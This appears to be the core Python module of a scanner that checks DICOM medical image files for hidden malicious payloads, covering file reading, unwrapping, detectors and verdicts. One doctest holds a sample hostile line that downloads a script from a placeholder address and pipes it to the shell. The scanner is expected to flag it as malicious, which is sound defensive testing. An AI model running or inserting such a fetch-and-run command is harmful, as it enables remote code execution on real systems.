"""One file through the whole pipeline: bytes → layout → rules and detectors → policy → report."""

from __future__ import annotations

import mmap
import os
import stat
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import lru_cache

from msgspec.structs import replace

from dicomguard import naming, policy, rules, unwrap, xor
from dicomguard.detectors import DETECTORS, vendors
from dicomguard.dicom import dictionary
from dicomguard.dicom.budgets import Budgets
from dicomguard.dicom.layout import Data
from dicomguard.dicom.recurring import Layouts
from dicomguard.dicom.source import Source
from dicomguard.drawing import draw
from dicomguard.engine import MappedFile
from dicomguard.files import READ_FLAGS, identity_of
from dicomguard.gather import Gathered
from dicomguard.incomplete import incomplete_finding, unexamined_report
from dicomguard.model import Confidence, FileIdentity, Finding, Instance, Report, Verdict
from dicomguard.payloads.wrappings import Allowance
from dicomguard.regex import regex
from dicomguard.settings import ScanSettings
from dicomguard.unwrap import ENCIPHERED, allowance_for, explained, pieces

_MAPPED_FROM = 64 << 20
"""Files of this size are mapped instead of read."""
_FINDINGS_LISTED = 1_000
"""With more findings in unwrapped data than these nothing more is unwrapped."""


Witness = Callable[[Finding, Source], None]
"""Is shown each finding while the data in which it lies are at hand.

Not all that it sees gets into the report: what an inner finding explains does not.
"""


@lru_cache(maxsize=4)
def _layouts(budgets: Budgets) -> Layouts:
    return Layouts(budgets)


def load() -> None:
    """Load what the scan of nearly every file needs, and would else when it first does."""
    dictionary.load()
    vendors.creators()


def prepare() -> None:
    """Load what the scans of many files need, besides rules, and those of a few do not."""
    rules.prepare()
    unwrap.prepare()
    xor.prepare()
    naming.load()


def scan_file(
    path: str | os.PathLike[str],
    settings: ScanSettings | None = None,
    witness: Witness | None = None,
) -> Report:
    """Examine one file.

    The file is opened without following a symbolic link and is never written to.

    Args:
        path: A regular file.
        settings: Rules and limits; the shipped rules if None.
        witness: Is shown what is found.

    Returns:
        The report; ``incomplete`` with the reason where the file cannot be read.

    Raises:
        DicomguardError: The rules cannot be loaded.

    >>> report = scan_file("study/IM0001")
    >>> str(report.verdict), report.is_dicom, report.instance.modality
    ('clean', True, 'CT')
    """
    settings = settings or ScanSettings()
    name = os.fspath(path)
    try:
        with _opened(name) as (data, identity):
            report = scan_bytes(data, name, settings, witness)
            after = os.stat(name, follow_symlinks=False)
    except (OSError, ValueError) as error:
        reason = error.strerror if isinstance(error, OSError) and error.strerror else str(error)
        return unexamined_report(name, reason)
    changed = (after.st_size, after.st_mtime_ns) != (identity.size, identity.mtime_ns)
    if changed or after.st_ino != identity.inode:
        return unexamined_report(name, "the file changed while it was read")
    return replace(report, identity=identity)


def scan_bytes(
    data: Data,
    name: str = "",
    settings: ScanSettings | None = None,
    witness: Witness | None = None,
) -> Report:
    r"""Examine the bytes of one file.

    Args:
        data: All of it.
        name: What the report calls it.
        settings: Rules and limits; the shipped rules if None.
        witness: Is shown what is found.

    Raises:
        DicomguardError: The rules cannot be loaded.

    >>> report = scan_bytes(b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n", "note.dcm")
    >>> str(report.verdict), report.findings[0].kind.family
    ('malicious', 'POLY')
    """
    settings = settings or ScanSettings()
    witness = witness or _no_witness
    if settings.known_clean:
        digest = _sha256(data)
        if digest in settings.known_clean:
            return Report(path=name, size=len(data), verdict=Verdict.CLEAN, sha256=digest)
    layout = _layouts(settings.budgets).of(data)
    sources = [Source(data=data, layout=layout, file=layout)]
    inflated = layout.inflated
    if inflated:
        sources.append(
            Source(data=inflated.data, layout=inflated.layout, file=layout, container=inflated)
        )
    allowance = allowance_for(len(data), settings.budgets)
    findings: list[Finding] = []
    unexamined = list(layout.limits)
    for source in sources:
        found, limits = _examine(source, settings, allowance, name, witness)
        unexamined += limits
        for detector in DETECTORS:
            more = list(detector.find(source, found))
            for each in more:
                witness(each, source)
            found += more
        findings += found
    unexamined += allowance.limits
    unexamined = list(dict.fromkeys(unexamined))
    findings += [incomplete_finding(reason, len(data)) for reason in unexamined]
    findings.sort(key=_worst_first)
    verdict = policy.verdict(findings, complete=not unexamined, strict=settings.strict)
    report = Report(
        path=name,
        size=len(data),
        verdict=verdict,
        findings=tuple(findings),
        unexamined=tuple(unexamined),
        is_dicom=layout.is_dicom,
        transfer_syntax=layout.transfer_syntax,
        instance=_instance(sources),
        sha256=_sha256(data) if settings.hash_clean or verdict is not Verdict.CLEAN else None,
        drawing=draw(data, layout, findings) if verdict in settings.draw else None,
    )
    return settings.suppressions.applied(report, strict=settings.strict)


def _sha256(data: Data) -> str:
    import hashlib  # noqa: PLC0415 - of clean files it is seldom asked

    return hashlib.sha256(data).hexdigest()


def _no_witness(_finding: Finding, _source: Source) -> None:
    """Looks away."""


def _examine(
    source: Source,
    settings: ScanSettings,
    allowance: Allowance,
    path: str,
    witness: Witness,
    *,
    is_prose: bool = False,
) -> tuple[list[Finding], list[str]]:
    """What the rules find in a source and in everything that is wrapped in it.

    Calls itself for what it unwraps, as deep as the budgets allow; in prose only where it has found
    something.
    """
    gathered = Gathered(source)
    findings, limits, triggers = settings.pack.find(
        gathered, path, beside=lambda: unwrap.look_ahead(gathered, allowance)
    )
    inside, more_limits = settings.pack.find_inside(source, findings, path)
    findings += inside
    limits += more_limits
    for each in findings:
        witness(each, source)
    if is_prose and not findings:
        return [], limits
    unwrapped: list[Finding] = []
    for wrapped, content in pieces(gathered, triggers, allowance, settings.budgets):
        inner, more_limits = _examine(
            content, settings, allowance, path, witness, is_prose=wrapped.is_prose
        )
        limits += more_limits
        if wrapped.known and not any(_is_confirmed(each) for each in inner):
            detail = f"its DOS stub shows under {wrapped.name}"
            inner = [source.finding(ENCIPHERED, *wrapped.known, detail=detail)]
            witness(inner[0], source)
        findings = [each for each in findings if not explained(each, wrapped, inner)]
        unwrapped += inner
        if len(unwrapped) > _FINDINGS_LISTED:
            limits.append(f"more than {_FINDINGS_LISTED} findings, the rest was not unwrapped")
            break
    return findings + unwrapped, limits


def _is_confirmed(finding: Finding) -> bool:
    return finding.kind.confidence is Confidence.CONFIRMED


@contextmanager
def _opened(name: str) -> Iterator[tuple[Data, FileIdentity]]:
    """The content of a regular file and which content that is.

    Raises:
        OSError: The file cannot be opened or read.
        ValueError: It is no regular file.
    """
    descriptor = os.open(name, READ_FLAGS)
    try:
        status = os.fstat(descriptor)
        if not stat.S_ISREG(status.st_mode):
            msg = "not a regular file"
            raise ValueError(msg)
        identity = identity_of(status)
        if status.st_size < _MAPPED_FROM:
            yield _read(descriptor, status.st_size), identity
        else:
            with MappedFile(descriptor, status.st_size, access=mmap.ACCESS_READ) as mapped:
                mapped.path = f"/proc/self/fd/{descriptor}"
                yield mapped, identity
    finally:
        os.close(descriptor)


def _read(descriptor: int, size: int) -> bytes:
    """So many bytes, or as many as there are."""
    parts = [os.read(descriptor, size)]
    left = size - len(parts[0])
    while left and parts[-1]:
        parts.append(os.read(descriptor, left))
        left -= len(parts[-1])
    return b"".join(parts)


def _worst_first(finding: Finding) -> tuple[int, int, int, str]:
    kind = finding.kind
    return -kind.severity.rank, -kind.confidence.rank, finding.place.offset, kind.id


_UNPRINTABLE = regex(r"[^ -~]")


def _instance(sources: list[Source]) -> Instance:
    def text(tag: int) -> str:
        for source in sources:
            value = source.layout.text(source.data, tag)[:64]
            if value:
                is_plain = value.isascii() and value.isprintable()
                return value if is_plain else _UNPRINTABLE.sub("?", value)
        return ""

    return Instance(
        study_instance_uid=text(0x0020000D),
        series_instance_uid=text(0x0020000E),
        sop_instance_uid=text(0x00080018),
        modality=text(0x00080060),
    )
